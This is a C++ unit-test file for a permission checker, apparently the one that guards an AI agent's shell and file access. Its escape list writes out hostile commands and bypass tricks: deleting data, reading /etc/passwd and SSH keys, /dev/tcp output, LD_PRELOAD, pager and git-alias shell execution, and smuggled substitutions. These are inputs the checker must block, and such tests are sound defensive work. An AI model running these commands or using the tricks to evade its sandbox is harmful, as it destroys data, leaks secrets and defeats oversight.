// Escapes that must not pass, and harmless lines that nobody should be asked about.
#include <algorithm>

#include <gtest/gtest.h>

#include "orchestrator/permissions/paths.hpp"
#include "orchestrator/permissions/policy.hpp"

namespace orchestrator::permissions {
namespace {

// Reading is allowed, all else would be asked about, and nobody is there to ask.
Policy read_only() {
  return {.write = Answer::deny,
          .shell = Answer::ask,
          .network = Answer::deny,
          .git_history = Answer::deny,
          .secrets = Answer::deny,
          .self_running = Answer::deny,
          .never_write = {},
          .plan_only = false};
}

const char* const kEscapes[] = {
    // plain
    "rm -rf .",
    "curl http://example.org",
    "python3 -c 'print(1)'",
    "make",
    "npm test",
    "./configure",
    "scripts/build",
    "git commit -m x",
    "git push",
    "git reset --hard",
    "git checkout .",
    "git config user.name x",
    "git stash",
    "sudo ls",
    // behind a harmless first word
    "ls; rm -rf .",
    "ls && curl x",
    "ls || wget x",
    "cat a | sh",
    "cat a | tee b",
    "ls & nc -l 1",
    "true; eval \"$X\"",
    // substitutions
    "echo $(rm a)",
    "echo `rm a`",
    "cat <(curl x)",
    "echo \"$(curl x)\"",
    "ls \"${X:-$(rm a)}\"",
    "echo ${X@P}",
    "grep x $(find . -delete)",
    "A=$(rm b) ls",
    "cat <<EOF\n$(rm a)\nEOF",
    "[ -n \"$(touch a)\" ]",
    "for f in $(rm x); do ls; done",
    "case $(rm x) in a) ls;; esac",
    // wrappers
    "env rm a",
    "env -i FOO=1 sh",
    "env -S 'rm a'",
    "xargs rm",
    "find . | xargs rm",
    "find . -exec rm {} \\;",
    "find . -execdir sh {} +",
    "find . -delete",
    "find . -fprintf out x",
    "find . -ok rm {} \\;",
    "nice -n 5 rm a",
    "timeout 5 rm a",
    "nohup curl x",
    "time rm a",
    "command rm a",
    "exec rm a",
    "builtin eval x",
    "sh -c 'rm a'",
    "bash -c \"rm a\"",
    "bash -lc ls",
    "sh script.sh",
    "stdbuf -o0 rm a",
    "env env env rm a",
    "ls | xargs -I{} sh -c '{}'",
    "ls | xargs cat | sh",
    // names that are made
    "$CMD",
    "r\\m a",
    "'r'm a",
    "$(echo rm) a",
    "r${X}m a",
    "/bin/r? a",
    "$'\\x72m' a",
    "\\rm a",
    "{rm,a}",
    // redirections
    "echo x > a",
    "echo x >> .git/hooks/pre-commit",
    "cat a >| b",
    "ls 2> err",
    "ls &> all",
    "echo x > ~/.bashrc",
    "cat < /etc/passwd",
    "cat <> a",
    "exec 3> a",
    "echo x > /dev/tcp/1.2.3.4/80",
    "> a",
    "echo x > \"$F\"",
    // environment and definitions
    "PATH=. ls",
    "LD_PRELOAD=./x.so ls",
    "GIT_SSH_COMMAND=x git log",
    "GIT_PAGER=sh git log",
    "PAGER=sh git log",
    "IFS=x; ls",
    "BASH_ENV=x bash -c ls",
    "alias ls=rm; ls",
    "ls() { rm -rf .; }; ls",
    "function cat { rm a; }; cat a",
    "export PATH=.",
    "trap 'rm a' EXIT",
    "source x",
    ". ./x",
    "set -x",
    "env",
    "printenv",
    // options that do more
    "sort -o a b",
    "sort --output=a b",
    "sort --compress-program=sh a",
    "sed -i s/a/b/ f",
    "sed -n 'w out' f",
    "sed s/a/b/e f",
    "sed '1e rm a' f",
    "sed -f script f",
    "rg --pre sh x",
    "git -c core.pager=sh log",
    "git -c alias.x='!sh' x",
    "git --exec-path=. log",
    "git log --output=a",
    "git diff --ext-diff",
    "git grep -Osh x",
    "git -C .. log",
    "git diff --no-index /etc/passwd a",
    "uniq a b",
    "xxd -r a b",
    "tree -o a",
    "date -s 1",
    "printf -v PATH x",
    "file -C -m a",
    "tar xf a --to-command=sh",
    "awk 'BEGIN{system(\"rm a\")}'",
    "perl -e1",
    "node -e 1",
    "vim a",
    "less a",
    "wc --files0-from=a",
    "sort $X",
    "git log $X",
    "ls | xargs sort",
    "echo /etc/passwd | xargs cat",
    "cat list | xargs head",
    "ls | xargs wc",
    "find . -printf /etc/passwd | xargs cat",
    "git branch new",
    "git tag v1",
    "git remote add x y",
    "git worktree add x",
    // what lies outside, and secrets
    "cat /etc/passwd",
    "cat ../../secret",
    "cat ~/.ssh/id_rsa",
    "ls /",
    "cat .env",
    "grep -r x ..",
    "head a/../../b",
    "cat id_rsa",
    "cat \"$HOME/.netrc\"",
    "find / -name x",
    "cd /; ls",
    "cd ..; cat x",
    "cd; ls",
    "diff a /etc/shadow",
    "grep --file=/etc/passwd x",
    "ls key.pem",
    "cat <.env",
    // nonsense
    "((((",
    "ls 'a",
    "if",
    "ls \x01\x02 $(",
    "ls ${",
    "cat <<EOF",
};

const char* const kHarmless[] = {
    "ls",
    "ls -la src",
    "cat a.py",
    "cat a b | head -n 5",
    "grep -rn 'def f' src",
    "grep -E 'a|b' x | sort | uniq -c",
    "rg -n --hidden TODO",
    "wc -l *.py",
    "head -20 README.md",
    "tail -n +3 a",
    "find . -name '*.py'",
    "find src -type f -newer a",
    "find . -name '*.c' -exec grep -l main {} +",
    "git log --oneline -5",
    "git show HEAD",
    "git diff --stat",
    "git status --short",
    "git blame a.py",
    "git ls-files | wc -l",
    "git --no-pager log -1",
    "git branch",
    "git branch -a",
    "git tag --list",
    "git grep -n x",
    "git rev-parse HEAD",
    "sed -n '1,20p' a",
    "sed 's/a/b/g' f",
    "cut -d: -f1 a",
    "sort -k2 -n a",
    "sort a | uniq",
    "tr a-z A-Z < a",
    "diff a b",
    "cmp a b",
    "stat a",
    "file a",
    "du -sh .",
    "pwd",
    "which python3",
    "echo hello",
    "echo \"$USER\"",
    "printf '%s\\n' x",
    "test -f a && cat a",
    "[ -d src ] && ls src",
    "ls 2>/dev/null",
    "ls 2>&1 | head",
    "find . -name '*.c' | xargs wc -l",
    "git ls-files | xargs cat",
    "for f in a b; do cat \"a.py\"; done",
    "basename a/b",
    "dirname a/b",
    "realpath a",
    "jq .name package.json",
    "cat <<'EOF'\ntext\nEOF",
    "env LANG=C ls",
    "timeout 5 ls",
    "nice ls",
    "command -v ls",
    "(cd src && ls)",
    "cat a > /dev/null",
    "true || false",
    "od -c a",
    "comm -12 a b",
    "TZ=UTC date",
};

TEST(ShellLine, NoEscapePasses) {
  EXPECT_GE(std::size(kEscapes), 60u);
  for (const char* line : kEscapes) {
    Decision decision = may_run(read_only(), line);
    EXPECT_NE(decision.answer, Answer::allow) << line;
    EXPECT_FALSE(decision.reason.empty()) << line;
  }
}

TEST(ShellLine, HarmlessLinesPassUnasked) {
  EXPECT_GE(std::size(kHarmless), 40u);
  for (const char* line : kHarmless) {
    Decision decision = may_run(read_only(), line);
    EXPECT_EQ(decision.answer, Answer::allow) << line << ": " << decision.reason;
  }
}

TEST(ShellLine, NothingRunsByDefault) {
  for (const char* line : kHarmless) EXPECT_EQ(may_run(Policy(), line).answer, Answer::deny) << line;
}

TEST(ShellLine, WhatStandsInAListIsAsBadAsItsWorstPart) {
  for (const char* good : {"ls", "git log -1", "cat a | head"}) {
    for (const char* bad : kEscapes) {
      if (std::string_view(bad).find("((((") == 0) continue;
      std::string line = std::string(good) + "; " + bad;
      EXPECT_NE(may_run(read_only(), line).answer, Answer::allow) << line;
    }
  }
}

TEST(ShellLine, AnyBytesAreJudged) {
  std::uint32_t state = 7;
  auto next = [&] { return state = state * 1664525u + 1013904223u; };
  const std::string_view alphabet = "ls $(){}[]<>|&;'\"`\\\n\t=*?~#!-/.abrm\x80\xff";
  for (int i = 0; i < 2000; ++i) {
    std::string line;
    for (std::uint32_t length = next() % 40; length > 0; --length)
      line += alphabet[(next() >> 8) % alphabet.size()];
    may_run(read_only(), line);
  }
  EXPECT_NE(may_run(read_only(), std::string(100'000, '(')).answer, Answer::allow);
  EXPECT_NE(may_run(read_only(), "ls " + std::string(70'000, 'a')).answer, Answer::allow);
  EXPECT_NE(may_run(read_only(), std::string("ls\0rm", 5)).answer, Answer::allow);
}

TEST(ShellLine, NeedsNameWhatTheLineWouldDo) {
  struct Case {
    const char* line;
    Right right;
  };
  const Case cases[] = {{"curl x", Right::network},         {"rm a", Right::write},
                        {"git commit", Right::git_history}, {"python3 a.py", Right::execute},
                        {"cat .env", Right::secrets},       {"cat /etc/hosts", Right::outside},
                        {"echo x > a", Right::write},       {"git push", Right::network}};
  for (const Case& c : cases) {
    auto needs = needs_of(c.line);
    bool found = std::ranges::any_of(needs, [&](const Need& need) { return need.right == c.right; });
    EXPECT_TRUE(found) << c.line;
  }
  EXPECT_TRUE(needs_of_words({"ls", "; rm a"}).empty());  // no shell will see it
  EXPECT_FALSE(needs_of_words({"sh", "-c", "rm a"}).empty());
}

TEST(WritePaths, NoneEscapes) {
  const char* const paths[] = {"/etc/passwd",
                               "../a",
                               "a/../../b",
                               "~/.bashrc",
                               "",
                               ".git/config",
                               ".git/hooks/pre-commit",
                               "sub/.git/config",
                               "sub/.git",
                               "./.git/HEAD",
                               ".GIT/config",
                               "a/./../../b",
                               ".env",
                               "config/.env.production",
                               "id_rsa",
                               "deploy/key.pem",
                               ".ssh/config",
                               ".aws/credentials",
                               ".npmrc",
                               ".netrc",
                               "..",
                               "/",
                               "secrets.yml",
                               "certs/server.key",
                               "~root/x"};
  for (const char* path : paths) EXPECT_EQ(may_write(Policy(), path).answer, Answer::deny) << path;
  EXPECT_EQ(may_write(Policy(), std::string_view("a\0b", 3)).answer, Answer::deny);
}

TEST(WritePaths, WhatRunsByItselfIsAskedAbout) {
  for (const char* path : {".github/workflows/ci.yml", ".husky/pre-commit", ".vscode/tasks.json",
                           "concord.toml", ".concord/config.toml", ".envrc", ".gitattributes",
                           ".pre-commit-config.yaml", "sitecustomize.py", ".mcp.json", "x.pth"})
    EXPECT_EQ(may_write(Policy(), path).answer, Answer::ask) << path;
}

TEST(WritePaths, OrdinaryFilesAreWritten) {
  for (const char* path : {"a.py", "src/a/b.rs", "README.md", ".gitignore", "environment.py", "keys.py",
                           ".env.example", "git/a.c", "docs/secrets.md", "a..b", ".github/CODEOWNERS"})
    EXPECT_EQ(may_write(Policy(), path), (Decision{Answer::allow, ""})) << path;
}

TEST(Policy, AProjectCanOnlyNarrow) {
  Policy person;
  person.shell = Answer::ask;
  Policy wide{.write = Answer::allow,
              .shell = Answer::allow,
              .network = Answer::allow,
              .git_history = Answer::allow,
              .secrets = Answer::allow,
              .self_running = Answer::allow,
              .never_write = {},
              .plan_only = false};
  EXPECT_EQ(narrowed(person, wide), person);
  Policy narrow = wide;
  narrow.write = Answer::deny;
  narrow.never_write = {"*.lock"};
  narrow.plan_only = true;
  Policy both = narrowed(person, narrow);
  EXPECT_EQ(both.write, Answer::deny);
  EXPECT_EQ(both.shell, Answer::ask);
  EXPECT_TRUE(both.plan_only);
  EXPECT_EQ(both.never_write, narrow.never_write);
}

TEST(Policy, APlanWritesNothing) {
  Policy plan{.write = Answer::allow,
              .shell = Answer::allow,
              .network = Answer::allow,
              .git_history = Answer::allow,
              .secrets = Answer::allow,
              .self_running = Answer::allow,
              .never_write = {},
              .plan_only = true};
  EXPECT_EQ(may_write(plan, "a.py").answer, Answer::deny);
  EXPECT_EQ(may_run(plan, "rm a").answer, Answer::deny);
  EXPECT_EQ(may_run(plan, "git commit -m x").answer, Answer::deny);
  EXPECT_EQ(may_run(plan, "cat a").answer, Answer::allow);
}

TEST(Patterns, MatchAsIgnoreFilesDo) {
  struct Case {
    const char *pattern, *path;
    bool want;
  };
  const Case cases[] = {{"*.lock", "a/b.lock", true},
                        {"*.lock", "b.lock", true},
                        {"*.lock", "b.lock/c", false},
                        {"src/*.py", "src/a.py", true},
                        {"src/*.py", "src/a/b.py", false},
                        {"src/**/*.py", "src/a/b.py", true},
                        {"src/**/*.py", "src/b.py", true},
                        {"vendor/", "vendor/a/b", true},
                        {"vendor/", "vendor", true},
                        {"vendor/", "x/vendor/a", false},
                        {"a?c", "abc", true},
                        {"a?c", "ac", false},
                        {"", "a", false},
                        {"**", "a/b", true},
                        {"./a", "a", true}};
  for (const Case& c : cases) EXPECT_EQ(matches(c.pattern, c.path), c.want) << c.pattern << " " << c.path;
  EXPECT_FALSE(matches("a*a*a*a*a*a*a*a*a*a*a*a*a*b", std::string(200, 'a')));  // and ends soon
}

}  // namespace
}  // namespace orchestrator::permissions
